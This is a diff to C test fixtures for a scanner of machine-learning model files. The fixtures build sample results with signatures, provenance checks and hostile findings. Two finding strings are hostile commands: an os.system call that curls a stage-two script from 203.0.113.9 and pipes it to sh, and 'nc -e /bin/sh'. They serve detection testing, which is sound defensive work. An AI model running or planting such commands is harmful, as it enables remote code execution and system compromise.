@@ -69,7 +69,7 @@ static inline struct model *sample_model(struct result *r, const char *target)
 }
 
 /* A PyTorch zip whose data.pkl runs a shell. */
-static inline struct model *sample_malicious(struct result *r)
+static inline struct model *sample_malicious_of(struct result *r, int repeats)
 {
     struct model *m = sample_model(r, "models/resnet50-final.pt");
     struct file *f = sample_file(m, bytes_of("resnet50-final.pt"), 102400512,
@@ -85,7 +85,7 @@ static inline struct model *sample_malicious(struct result *r)
     sample_finding(
         pkl, &sample_call, 1042, "called by REDUCE",
         "os.system('curl -s http://203.0.113.9/stage2.sh | sh -c \"$(cat)\" # torch')");
-    for (int i = 0; i < 300; i++)
+    for (int i = 0; i < repeats; i++)
         sample_finding(pkl, &sample_import, (uint64_t)(2000 + i), "not in any list",
                        i % 2 ? "my_pkg.layers.Block" : "my_pkg.layers.Norm");
     struct artifact *inner = artifact_child(pkl, bytes_of("bytes@512"), 512, 128);
@@ -100,6 +100,11 @@ static inline struct model *sample_malicious(struct result *r)
     struct fact *calls = fact_list(pkl->arena, stream, "calls");
     fact_text(pkl->arena, calls, "", bytes_of("os.system('curl …')"));
     return m;
+}
+
+static inline struct model *sample_malicious(struct result *r)
+{
+    return sample_malicious_of(r, 300);
 }
 
 /* A Hugging Face cache with one right and one tampered blob. */
@@ -196,8 +201,147 @@ static inline struct model *sample_pictures(struct result *r)
     return m;
 }
 
-/* All of the above. */
-static inline struct result *sample_rich(void)
+static inline struct metadata *sample_metadata(struct arena *arena, const char *key,
+                                               const char *value, struct metadata *next)
+{
+    struct metadata *m = arena_alloc(arena, sizeof *m);
+    *m = (struct metadata){ key, bytes_of(value), next };
+    return m;
+}
+
+/* All that a registry, signatures, a policy and byte rules can add to a model. */
+static inline struct model *sample_signed(struct result *r)
+{
+    static const struct rule byte_rule = { "yara/reverse-shell", SEVERITY_HIGH, 506,
+                                           "Bytes of a reverse shell" };
+    static struct origin other = { .registry = "git",
+                                   .title = "Git repository",
+                                   .trust = TRUST_LOW,
+                                   .basis = BASIS_DECLARED };
+    static struct signature unknown = { .kind = "minisign",
+                                        .state = SIGNATURE_UNTRUSTED };
+    static struct signature signature = { .kind = "sigstore",
+                                          .state = SIGNATURE_VERIFIED,
+                                          .next = &unknown };
+    static struct provenance_check license = {
+        "license", CHECK_UNKNOWN, SEVERITY_LOW, { 0 }, NULL
+    };
+    static struct provenance_check downloads = {
+        "downloads", CHECK_FAIL, SEVERITY_MEDIUM, { 0 }, &license
+    };
+    struct model *m = sample_clean(r, "models/signed", TRUST_MEDIUM);
+    struct file *f = m->files;
+    other.name = bytes_of("https://git.example/acme/gpt-small");
+    other.evidence = bytes_of(".git/config");
+    other.agrees = true;
+    m->origin.pinned = true;
+    m->origin.next = &other;
+    m->origin.revision = bytes_of("4f1c0d2e8a90b7c6d5e4f3a2b1c0d9e8f7a6b5c4");
+    m->metadata = sample_metadata(
+        m->arena, "author", "acme",
+        sample_metadata(m->arena, "license", "apache-2.0",
+                        sample_metadata(m->arena, "base_model", "acme/gpt", NULL)));
+    downloads.evidence = bytes_of("downloads 12, at least 1000 wanted");
+    license.evidence = bytes_of("the registry does not say");
+    m->checks = &downloads;
+    signature.path = bytes_of("model.safetensors.sigstore.json");
+    signature.identity =
+        bytes_of("https://github.com/acme/train/.github/workflows/release.yml");
+    signature.issuer = bytes_of("https://token.actions.githubusercontent.com");
+    signature.root =
+        bytes_of("60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752");
+    signature.time = bytes_of("2026-01-01T00:00:00Z");
+    signature.covers = bytes_of("all 2 files");
+    unknown.path = bytes_of("model.safetensors.minisig");
+    unknown.identity = bytes_of("RWQf6LRCGA9i53mlYecO4IzT51TGPpvW");
+    unknown.check = bytes_of("identity");
+    unknown.reason = bytes_of("no key of the operator's has this fingerprint");
+    m->signatures = &signature;
+    f->signature = &signature;
+    f->metadata = sample_metadata(m->arena, "lfs.oid", "9f86d081", NULL);
+    sample_expect(f, "huggingface",
+                  "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+                  EXPECT_VERIFIED);
+    f->expected->by = BY_REGISTRY;
+    struct file *zip = sample_file(m, bytes_of("extra.zip"), 4096, FORMAT_BIT(FORMAT_ZIP),
+                                   STATUS_COMPLETE, NULL);
+    zip->artifact->members_total = 9;
+    for (int i = 0; i < 2; i++) { /* one name, two members */
+        struct artifact *a = artifact_child(zip->artifact, bytes_of("data.pkl"), 10, 20);
+        sample_finding(a, &byte_rule, 4, "matched $shell", "nc -e /bin/sh");
+        a->findings.first->suppressed =
+            i ? bytes_of("reviewed by J. Doe (SEC-1187), until 2026-06-30")
+              : (struct span){ 0 };
+    }
+    zip->artifact->first->findings.count += 7;
+    zip->artifact->first->findings.dropped = 7;
+    return m;
+}
+
+/* A model of a hub as fetched, with all that its card declares. */
+static inline struct model *sample_published(struct result *r)
+{
+    static struct signature signature = { .kind = "sigstore",
+                                          .state = SIGNATURE_VERIFIED };
+    static const char *const metadata[][2] = {
+        {"author",       "acme"                    },
+        { "created",     "2025-06-01T12:00:00.000Z"},
+        { "license",     "apache-2.0"              },
+        { "license",     "acme-research-1"         },
+        { "base_models", "acme/gpt"                },
+        { "base_models", "finetune:acme/gpt"       },
+        { "datasets",    "acme/corpus"             },
+        { "type",        "text-generation"         },
+        { "family",      "transformer"             },
+    };
+    struct model *m =
+        result_add_model(r, bytes_of("hf:acme/Gpt-small"), bytes_of("acme/Gpt-small"));
+    m->trust = TRUST_MEDIUM;
+    m->origin =
+        (struct origin){ .registry = "huggingface",
+                         .title = "Hugging Face Hub",
+                         .trust = TRUST_MEDIUM,
+                         .basis = BASIS_FETCHED,
+                         .name = bytes_of("acme/Gpt-small"),
+                         .revision = bytes_of("4f1c0d2e8a90b7c6d5e4f3a2b1c0d9e8f7a6b5c4"),
+                         .evidence = bytes_of("the registry's answer"),
+                         .pinned = true };
+    for (size_t i = sizeof metadata / sizeof metadata[0]; i-- > 0;)
+        m->metadata =
+            sample_metadata(m->arena, metadata[i][0], metadata[i][1], m->metadata);
+    signature.path = bytes_of("model.safetensors.sigstore.json");
+    signature.identity = bytes_of("release@acme.example");
+    signature.issuer = bytes_of("https://accounts.example");
+    signature.covers = bytes_of("1 file");
+    m->signatures = &signature;
+    struct file *weights =
+        sample_file(m, bytes_of("model.safetensors"), 1234567,
+                    FORMAT_BIT(FORMAT_SAFETENSORS), STATUS_COMPLETE, NULL);
+    weights->signature = &signature;
+    struct file *bundle = sample_file(m, signature.path, 4321, 0, STATUS_SKIPPED,
+                                      "nothing suggests a model");
+    for (struct file *f = weights; f; f = f == weights ? bundle : NULL) {
+        sample_expect(f, "huggingface",
+                      "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+                      EXPECT_VERIFIED);
+        f->expected->by = BY_REGISTRY;
+    }
+    return m;
+}
+
+static inline struct result *sample_published_alone(void)
+{
+    struct result *r = result_new();
+    sample_published(r);
+    r->run.sandbox = "seccomp";
+    r->run.started = 1767225600;
+    r->rules_digest = "0cc175b9c0f1b6a831c399e269772661";
+    result_count(r);
+    return r;
+}
+
+/* All of the above but the last. */
+static inline struct result *sample_rich_of(int repeats)
 {
     struct result *r = result_new();
     sample_hostile(r);
@@ -208,17 +352,24 @@ static inline struct result *sample_rich(void)
     struct model *noted = sample_clean(r, "models/noted", TRUST_MEDIUM);
     finding_add(&noted->findings, noted->arena, &sample_note, 0,
                 bytes_of("the reference names no commit"), (struct span){ 0 });
-    sample_malicious(r);
+    sample_malicious_of(r, repeats);
     sample_pictures(r);
+    model_share_file(sample_signed(r), r->models->next->files->next->next);
     struct error e;
     error_set(&e, ERROR_IO, "hf:acme/x: cannot be fetched: Connection refused");
     result_add_error(r, bytes_of("hf:acme/x"), &e, true);
     r->run.sandbox = "seccomp+landlock6";
+    r->run.started = 1767225600;
     r->run.seconds = 1.25;
     r->run.jobs = 2;
     r->rules_digest = "0cc175b9c0f1b6a831c399e269772661";
     result_count(r);
     return r;
+}
+
+static inline struct result *sample_rich(void)
+{
+    return sample_rich_of(300);
 }
 
 #endif
